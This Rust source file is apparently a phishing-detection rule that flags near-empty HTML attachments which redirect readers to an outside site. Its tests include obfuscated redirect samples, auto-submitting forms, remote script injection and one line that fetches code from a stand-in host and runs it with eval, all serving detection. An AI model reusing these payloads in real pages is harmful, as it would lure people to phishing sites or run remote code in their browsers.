//! An attached page with little to read whose work is to lead elsewhere: a link that filters do not see.

use super::{Check, Heuristic};
use crate::artifact::Sign;
use crate::artifact::Tree;
use crate::detect::Strength;
use crate::detect::scripts::{Bundle, is_lent, pages, site};

pub(super) const RULE: Heuristic = Heuristic {
    id: "html-redirects-away",
    strength: Strength::Medium,
    title_en: "An attached web page shows nothing of its own and leads to a site",
    title_ja: "添付のWebページに中身がなく、別のサイトへ移動させます",
    attack: &["T1566.002", "T1204.001"],
    page: include_str!("../../../docs/rules/html-redirects-away.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for page in pages(tree).into_iter().filter(|page| page.holder.kind.id == "html") {
        if let Some(target) = leads_away(&page) {
            hit(page.holder.id, target);
        }
    }
}

/// Letters that a page may show and still be no more than a signpost; that a frame or a script may fill.
const LITTLE: usize = 600;
const SIGNPOST: usize = 300;
const NOTHING: usize = 80;

/// Sites from which honest reports load their libraries.
const LIBRARIES: &[&str] = &[
    "jsdelivr.net",
    "unpkg.com",
    "cloudflare.com",
    "googleapis.com",
    "jquery.com",
    "bootstrapcdn.com",
    "plot.ly",
    "pydata.org",
    "mathjax.org",
    "gstatic.com",
    "polyfill.io",
    "google.com",
    "googletagmanager.com",
    "fontawesome.com",
    "microsoft.com",
    "d3js.org",
];

fn leads_away(page: &Bundle) -> Option<String> {
    let shown = page.shown();
    if shown > LITTLE {
        return None;
    }
    let is_away = |target: &&str| site(target).is_some() || *target == "(computed)";
    let mut ways = page.all(Sign::Redirect).chain(page.leads("refresh")).chain(page.leads("link-to-file"));
    let frame = || {
        let framed = page.leads("frame").chain(page.leads("object"));
        framed.filter(is_away).find(|target| !is_lent(target)).filter(|_| shown <= NOTHING)
    };
    let code = page.code();
    let sent = || page.leads("form").find(is_away).filter(|_| code.contains(".submit()"));
    let is_own_library = |target: &&str| site(target).is_some_and(|site| !LIBRARIES.contains(&site.as_str()));
    let script = || {
        page.leads("script")
            .chain(page.leads("base"))
            .find(is_own_library)
            .filter(|_| shown <= NOTHING && code.len() < 600)
    };
    let named = || page.leads("link-names-reader").next().filter(|_| shown <= SIGNPOST);
    let clicked =
        || page.leads("link").find(is_away).filter(|_| shown <= NOTHING && code.contains(".click()"));
    let way = ways.find(is_away).or_else(named).or_else(clicked).or_else(frame).or_else(script).or_else(sent);
    way.map(str::to_string).or_else(|| loaded(&code).filter(|_| shown <= NOTHING))
}

/// Program text of a page that is no more than a loader.
const SHORT: usize = 2000;

/// How scripts load what is not in the page, in lower case.
const LOADING: &[&str] = &[
    "fetch(",
    "import(",
    "import \"",
    "import '",
    "xmlhttprequest",
    "createelement(\"iframe\"",
    "createelement('iframe'",
    "createelement(\"script\"",
    "createelement('script'",
];

/// The address from which a short script loads what the page is to show.
fn loaded(code: &str) -> Option<String> {
    let loads = LOADING.iter().any(|word| code.contains(word));
    let at =
        code.find("https://").or_else(|| code.find("http://")).filter(|_| loads && code.len() < SHORT)?;
    let address = code.get(at..)?.split(['"', '\'', '`', ' ', ')']).next()?;
    let is_library = site(address).is_none_or(|site| LIBRARIES.contains(&site.as_str()));
    (!is_library).then(|| address.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::scripts::tests::hits;

    #[test]
    fn signposts_hit() {
        for page in [
            "<html><script>window.location.href = 'https://a.test/login';</script>",
            "<html><meta http-equiv=refresh content='0;url=https://a.test/'>",
            "<body onload=\"location.replace('https://a.test')\">Please wait",
            "<html><script>var u = 'aHR0cHM6Ly9hLnRlc3Q='; top.location = atob(u);</script>",
            "<html><iframe src='https://a.test/f' width=100%></iframe>",
            "<html><script src='https://a.test/x.js'></script>",
            "<html><script>fetch('https://a.test/c').then(r => r.text()).then(t => (0, eval)(t))</script>",
            "<html><form id=f action='https://a.test/x'><input type=hidden name=e></form><script>f.submit()</script>",
            "<html><object data='https://a.test/login'></object>",
            "<html><base href='https://a.test/'><script src=k.js></script>",
            "<html><script>window['loc' + 'ation']['hr' + 'ef'] = ['https:', '', 'a.test', 'x'].join('/')</script>",
            "<html><script>var u = 'https://a.test/#'; window.open(u + mail, '_self');</script>",
            "<html><script>s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9hLnRlc3QvaW4uanM='); h.append(s);</script>",
            "<html><script>f = document.createElement('iframe'); f.src = 'https://a.test/' + location.hash; b.append(f)</script>",
            "<html><script>k='abcdefgh:/.'; s=''; for (j of [7, 19, 19]) s += k[j]; location.href = s</script>",
            "<html><a id=g href='https://a.test/x'></a><script>document.getElementById('g').click()</script>",
            "<html><script>setTimeout(\"location='https://a.test/l'\", 500)</script>",
            "<html><script>navigation.navigate('https://a.test/x')</script>",
            "<html><h1>Voice message</h1><a href='https://a.test/#desk@bakery.example'>Play</a>",
            "<html><img src=x.png usemap=#m><map name=m><area href='https://a.test/files/x.iso?1'></map>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
        }
    }

    #[test]
    fn pages_with_something_to_read_do_not() {
        let long = format!(
            "<html><meta http-equiv=refresh content='60;url=https://a.test/'><p>{}",
            "words to read ".repeat(100)
        );
        for page in [
            long.as_str(),
            "<html><meta http-equiv=refresh content='0;url=index_files/start.html'>",
            "<html><script>location.hash = '#a'; location.href = '#top';</script>",
            "<html><script src='https://cdn.plot.ly/plotly.js'></script><div id=x></div>",
            "<html><script>window.open('https://a.test/help', '_blank'); x.open('GET', 'https://a.test/');</script>",
            "<html><form action='https://a.test/search'><input name=q></form><script>go()</script>",
            "<html><a href='https://a.test/'>x</a><a id=s href='#top'>y</a><p>Plenty of words stand on this page about the work of the day, the people who do it, and what they have to say of it.<script>s.click()</script>",
            "<html><script>setTimeout(\"show('https://a.test/l')\", 500); menu.navigate('https://a.test/x')</script>",
            "<html><script>fetch('data.json').then(r => r.json()).then(show)</script>",
            "<html><script>import('https://cdn.jsdelivr.net/npm/x')</script>",
            "<html><script>q = 'list.html?'; for (i of n) q += n[i]; location.href = q</script>",
            "<html><script>s = document.createElement('script'); s.src = 'https://www.googletagmanager.com/x.js'</script>",
            "<html><a href='https://a.test/x.pdf'>x</a><a href='https://a.test'>y</a>",
            "<html><script>img.src = decodeURIComponent(name) + '.png';</script>",
            "<html><p>Map</p><iframe src='https://www.google.com/maps/embed?pb=1'></iframe>",
        ] {
            assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
        }
    }
}
